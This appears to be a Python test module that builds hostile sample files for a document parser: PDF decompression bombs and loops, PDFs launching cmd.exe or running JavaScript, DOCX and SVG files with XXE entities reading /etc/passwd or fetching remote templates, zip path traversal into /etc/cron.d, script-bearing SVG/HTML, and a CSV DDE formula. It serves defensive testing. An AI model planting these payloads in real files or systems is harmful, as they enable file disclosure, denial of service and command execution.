"""Documents that act, fetch, read, grow or do not end."""

from __future__ import annotations

import zlib
from collections.abc import Iterator

from tests.evidence import samples
from tests.evidence.hostile import Hostile, office_of


def pdfs() -> Iterator[Hostile]:
    """PDF that acts or grows."""
    yield Hostile(
        "pdf stream bomb", "bomb.pdf", pdf_of(_stream(b"/FlateDecode", zlib.compress(b"0 0 m 9 9 l S " * 4_000_000)))
    )
    twice = zlib.compress(zlib.compress(b"BT (A) Tj ET " * 2_000_000))
    yield Hostile("pdf stream bomb, twice", "bomb.pdf", pdf_of(_stream(b"[/FlateDecode/FlateDecode]", twice)))
    yield Hostile(
        "pdf that writes without end",
        "long.pdf",
        pdf_of(_stream(b"/FlateDecode", zlib.compress(b"BT /F 9 Tf (AAAAAAAAAA) Tj ET " * 300_000))),
    )
    yield Hostile("pdf with a script", "script.pdf", pdf_of(extra=b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"))
    yield Hostile("pdf that starts a program", "launch.pdf", pdf_of(extra=b"/OpenAction<</S/Launch/F(cmd.exe)>>"))
    yield Hostile(
        "pdf whose pages lead round",
        "loop.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj trailer<</Root 1 0 R>>",
    )
    yield Hostile("pdf with a million pages", "count.pdf", pdf_of().replace(b"/Count 1", b"/Count 1000000"))
    yield Hostile("pdf of a vast page", "vast.pdf", pdf_of(box=b"[0 0 1000000000 1000000000]"))
    yield Hostile("pdf of a page without size", "thin.pdf", pdf_of(box=b"[0 0 0.00001 100000]"))
    yield Hostile("pdf of brackets", "deep.pdf", b"%PDF-1.4\n1 0 obj" + b"[" * 500_000)
    yield Hostile("pdf of dictionaries", "deep.pdf", b"%PDF-1.4\n1 0 obj" + b"<</A" * 200_000)
    form = b"5 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>/Length 12>>stream\n/X Do /X Do\nendstream endobj "
    yield Hostile(
        "pdf that draws itself",
        "self.pdf",
        pdf_of(b"<</Length 5>>stream\n/X Do\nendstream", resources=b"/XObject<</X 5 0 R>>", objects=form),
    )
    yield Hostile("pdf with a picture of 60000x60000", "picture.pdf", _picture_pdf())
    yield Hostile("pdf behind a script", "behind.pdf", b"<html><script>alert(1)</script>\n" + samples.pdf())


def documents() -> Iterator[Hostile]:
    """Office documents that fetch or hold programs."""
    links = b'<Relationships><Relationship TargetMode="External" Target="http://192.0.2.1/x.dotm"/></Relationships>'
    yield Hostile("docx that fetches", "fetch.docx", samples.docx(extra={"word/_rels/document.xml.rels": links}))
    yield Hostile("docx with macros", "macro.docm", samples.docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
    outside = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:t xmlns:w="w">&e;</w:t>'
    yield Hostile("docx that reads files", "reads.docx", office_of("word/document.xml", outside))
    yield Hostile(
        "docx that reads the network",
        "net.docx",
        office_of("word/document.xml", outside.replace(b"file:///etc/passwd", b"http://127.0.0.1/")),
    )
    yield Hostile(
        "docx that climbs", "climb.docx", samples.docx(extra={"../../../../tmp/x": b"x", "/etc/cron.d/x": b"x"})
    )
    yield Hostile(
        "docx locked",
        "locked.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600),
    )
    yield Hostile("doc of old", "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 2_000)
    yield Hostile(
        "odt that is no text",
        "a.odt",
        samples.zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"\xff\xfe\0"}),
    )


def markup() -> Iterator[Hostile]:
    """Drawings, pages and PostScript that act."""
    space = b'<svg xmlns="http://www.w3.org/2000/svg" '
    yield Hostile("svg with a script", "a.svg", space + b"><script>alert(1)</script></svg>")
    yield Hostile("svg that acts", "a.svg", space + b'onload="alert(1)"/>')
    yield Hostile(
        "svg that fetches",
        "a.svg",
        space + b'><image href="http://192.0.2.1/x.png"/><use href="file:///etc/passwd"/></svg>',
    )
    yield Hostile(
        "svg that reads files",
        "a.svg",
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + space + b">&x;</svg>",
    )
    yield Hostile("svg called jpeg", "a.jpg", space + b"><script/></svg>")
    yield Hostile(
        "html with frames", "a.html", b"<html><iframe src='file:///etc/passwd'></iframe><meta charset='../../x'>"
    )
    yield Hostile("html of a false encoding", "a.html", b"<html><meta charset='utf-7'>+ADw-script+AD4-\xff")
    yield Hostile("html of an encoding that unpacks", "a.html", b"<html><meta charset='zlib'>\xff\xfe\xfd")
    yield Hostile("comments without end", "a.html", b"<!--" * 200_000)
    yield Hostile("markup without end", "a.svg", b"<?xml " * 10_000 + b"<svg")
    for program in (
        b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n",
        b"%!PS\n{} loop\n",
        b"\xc5\xd0\xd3\xc6" + bytes(28),
    ):
        yield Hostile("postscript", "a.eps", program)


def plain() -> Iterator[Hostile]:
    """Nearly nothing, and nothing but noise."""
    yield Hostile("empty", "empty.jpg", b"")
    for value in (0x00, 0x0A, 0x41, 0xFF):
        yield Hostile(f"one byte {value}", "one.bin", bytes([value]))
    yield Hostile("zeros", "zeros.jpg", bytes(1_000_000))
    yield Hostile("one line", "line.txt", b"A" * 3_000_000)
    yield Hostile("control characters", "control.txt", bytes(range(1, 32)) * 5_000)
    yield Hostile("turning marks", "turn.txt", ("\u202e\u2066" * 50_000).encode())
    yield Hostile("half letters", "half.txt", b"\xed\xa0\x80\xf8\x88\xff" * 10_000)
    yield Hostile("stacked marks", "stack.txt", ("a" + "\u0301" * 1_000_000).encode())
    yield Hostile("csv of formulas", "formula.csv", b'=cmd|"/c calc"!A1,@SUM(1)\n' * 1_000)


def _stream(filters: bytes, content: bytes) -> bytes:
    return b"<</Filter " + filters + b"/Length " + str(len(content)).encode() + b">>stream\n" + content + b"\nendstream"


def pdf_of(
    content: bytes = b"<</Length 0>>stream\n\nendstream",
    *,
    extra: bytes = b"",
    box: bytes = b"[0 0 200 200]",
    resources: bytes = b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>",
    objects: bytes = b"",
) -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R" + extra + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox "
        + box
        + b"/Contents 4 0 R/Resources<<"
        + resources
        + b">>>>endobj\n"
        b"4 0 obj" + content + b" endobj\n" + objects + b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def _picture_pdf() -> bytes:
    picture = (
        b"/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode/Length 20"
    )
    objects = b"5 0 obj<</Type/XObject" + picture + b">>stream\n" + zlib.compress(bytes(99)) + b"\nendstream endobj "
    return pdf_of(
        b"<</Length 30>>stream\n200 0 0 200 0 0 cm /X Do      \nendstream",
        resources=b"/XObject<</X 5 0 R>>",
        objects=objects,
    )
